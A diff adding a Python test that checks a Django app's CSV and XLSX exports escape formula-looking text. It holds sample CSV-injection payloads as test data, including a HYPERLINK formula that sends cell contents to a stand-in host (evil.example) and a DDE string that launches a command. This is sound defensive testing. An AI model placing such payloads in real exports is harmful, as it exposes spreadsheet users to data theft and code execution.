@@ -635,3 +635,44 @@ def test_it_keeps_the_advisors_page_with_notes_at_a_constant_query_count(cast: C
     assert many == few
     # Session, user, the last review, the list (a probe, then the join), its notes.
     assert many <= 6
+
+
+# Exports are safe to open: typed text never becomes a live formula ---------------------
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_it_exports_a_formula_looking_name_and_notes_as_text(cast: Cast) -> None:
+    client = _scored(
+        cast.advisor,
+        EVIL_NAME,
+        -5,
+        annual_income=Decimal("1200.50"),
+        next_action="+1+cmd|' /C calc'!A0",
+    )
+    review = _review(cast, {client.pk: (True, "@SUM(1+1)*cmd")})
+    services.p100_note_acknowledge(note=_note(review, client), reply="-2+3")
+    http = logged_in(cast.lead)
+    csv_response = http.get(
+        reverse("scoring:p100_export", args=[cast.advisor.pk, "csv"]), headers=ENGLISH
+    )
+    xlsx_response = http.get(
+        reverse("scoring:p100_export", args=[cast.advisor.pk, "xlsx"]), headers=ENGLISH
+    )
+
+    # The evil client scores lowest, so it is the last row of both files.
+    row = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))[-1]
+    assert row[1] == "'" + EVIL_NAME
+    assert row[3] == "-5" and row[5] == "1200.50"  # numbers stay numbers, unquoted
+    assert row[9] == "'+1+cmd|' /C calc'!A0"
+    assert row[11] == "'@SUM(1+1)*cmd"
+    assert row[14] == "'-2+3"
+    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
+    assert sheet is not None
+    last = next(sheet.iter_rows(min_row=sheet.max_row, max_row=sheet.max_row))
+    assert last[1].value == "'" + EVIL_NAME
+    assert last[1].data_type == "s"  # a string, not a formula ("f")
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    assert last[3].value == -5 and last[5].value == 1200.5
+    assert last[9].value == "'+1+cmd|' /C calc'!A0"
+    assert (last[11].value, last[14].value) == ("'@SUM(1+1)*cmd", "'-2+3")
